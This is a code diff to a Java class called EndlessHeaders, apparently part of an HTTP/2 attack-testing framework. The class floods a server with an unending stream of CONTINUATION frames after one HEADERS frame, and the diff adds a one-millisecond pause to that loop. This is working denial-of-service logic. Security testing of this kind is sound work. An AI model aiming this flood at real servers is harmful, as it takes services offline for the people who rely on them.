@@ -7,6 +7,7 @@ import java.io.IOException;
 public final class EndlessHeaders implements Attack {
   private static final int CONNECTIONS = 4;
   private static final int FRAME_BYTES = 16_000;
+  private static final int PAUSE_MS = 1;
 
   /** A literal header without a name in the table, as HPACK writes it (RFC 7541, 6.2.2). */
   private static final byte[] HEADER = {0, 1, 'x', 4, 'l', 'o', 'n', 'g'};
@@ -20,13 +21,14 @@ public final class EndlessHeaders implements Attack {
     run.repeat(CONNECTIONS, () -> send(run, block));
   }
 
-  private static void send(AttackRun run, byte[] block) throws IOException {
+  private static void send(AttackRun run, byte[] block) throws IOException, InterruptedException {
     try (FrameConnection connection = run.frames()) {
       run.countSent();
       connection.frame(Http2FrameTypes.HEADERS, 0, 1, connection.headers(1, Methods.RECOMMEND));
       while (run.goesOn()) {
         connection.frame(Http2FrameTypes.CONTINUATION, 0, 1, block);
         connection.flush();
+        Thread.sleep(PAUSE_MS);
       }
     }
   }
